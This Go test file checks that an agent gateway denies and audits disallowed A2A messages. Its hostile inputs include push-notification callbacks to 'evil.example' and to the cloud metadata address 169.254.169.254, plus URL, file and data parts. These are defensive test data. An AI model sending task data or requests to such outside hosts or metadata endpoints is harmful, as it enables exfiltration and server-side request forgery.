package scenarios_test

import (
	"net/http"
	"strings"
	"testing"

	"github.com/agentward/terraform-provider-agent/acctest/platform/probe"
	"github.com/agentward/terraform-provider-agent/internal/gateway/audit"
)

// A2A's messages: to a skill, of some parts, with news of the task sent somewhere.
func forbiddenMessages(t *testing.T, assistant *agent) {
	t.Helper()
	a := assistant.within(t)
	access := a.token("clerk")
	send := func(skill, parts, configuration string) probe.Call {
		metadata := `{}`
		if skill != "" {
			metadata = `{"urn:agentward:a2a:skill":"` + skill + `"}`
		}
		return a.with(access, http.MethodPost, a.at("clerk"),
			`{"jsonrpc":"2.0","id":1,"method":"SendMessage","params":{"message":{"messageId":"m1","role":"ROLE_USER","metadata":`+metadata+
				`,"parts":[`+parts+`]},"configuration":`+configuration+`}}`,
			map[string]string{"Content-Type": "application/json", "A2A-Version": "1.0"})
	}
	const text, nowhere = `{"text":"please"}`, `{}`
	elsewhere := func(url string) string { return `{"taskPushNotificationConfig":{"url":"` + url + `"}}` }

	if permitted := a.makes(send("report", text, nowhere)); permitted.Status != http.StatusOK || !strings.Contains(permitted.Body, "the report is written") {
		t.Fatalf("the permitted message: %+v", permitted)
	}
	a.recorded("the permitted message", a, func(r audit.Record) bool {
		return r.Target == "clerk" && r.Kind == "skill" && r.Resource == "report" && r.Decision == "allow" && strings.Join(r.Policies, " ") == "allow.report.skills"
	})
	for name, c := range map[string]struct {
		call     probe.Call
		resource string
		push     string
	}{
		"another skill":                   {send("refund", text, nowhere), "refund", ""},
		"no skill":                        {send("", text, nowhere), "", ""},
		"a part that is data":             {send("report", `{"data":{"to":"me"}}`, nowhere), "report", ""},
		"a part that is data beside text": {send("report", text+`,{"data":{"to":"me"}}`, nowhere), "report", ""},
		"a part that is a URL":            {send("report", `{"url":"https://evil.example/x"}`, nowhere), "report", ""},
		"a part that is a file":           {send("report", `{"raw":"AA=="}`, nowhere), "report", ""},
		"news to a host outside":          {send("report", text, elsewhere("https://evil.example/hook")), "report", "evil.example"},
		"news to the metadata address":    {send("report", text, elsewhere("http://169.254.169.254/latest")), "report", "169.254.169.254"},
	} {
		t.Run(name, func(t *testing.T) {
			a := a.within(t)
			fresh := a.fresh()
			answer := a.makes(c.call)
			if !strings.Contains(answer.Body, `"code":-31403`) || !strings.Contains(answer.Body, "denied") || strings.Contains(answer.Body, "report is written") {
				t.Fatalf("it gets %d %s %s", answer.Status, answer.Error, answer.Body)
			}
			a.recorded("the refusal", a, func(r audit.Record) bool {
				return r.Target == "clerk" && r.Decision == "deny" && r.Enforced && r.Method == "SendMessage" && r.PushHost == c.push &&
					(c.resource == "" || r.Resource == c.resource) && fresh(r)
			})
		})
	}
	t.Run("news of a task that there is", func(t *testing.T) {
		a := a.within(t)
		fresh := a.fresh()
		answer := a.makes(a.with(access, http.MethodPost, a.at("clerk"),
			`{"jsonrpc":"2.0","id":1,"method":"CreateTaskPushNotificationConfig","params":{"taskId":"t","url":"https://evil.example/hook"}}`,
			map[string]string{"Content-Type": "application/json", "A2A-Version": "1.0"}))
		if !strings.Contains(answer.Body, `"error"`) || strings.Contains(answer.Body, `"result"`) {
			t.Fatalf("it gets %d %s %s", answer.Status, answer.Error, answer.Body)
		}
		a.recorded("the refusal", a, func(r audit.Record) bool {
			return r.Target == "clerk" && r.Decision == "deny" && r.PushHost == "evil.example" && r.Task == "t" && fresh(r)
		})
	})
}
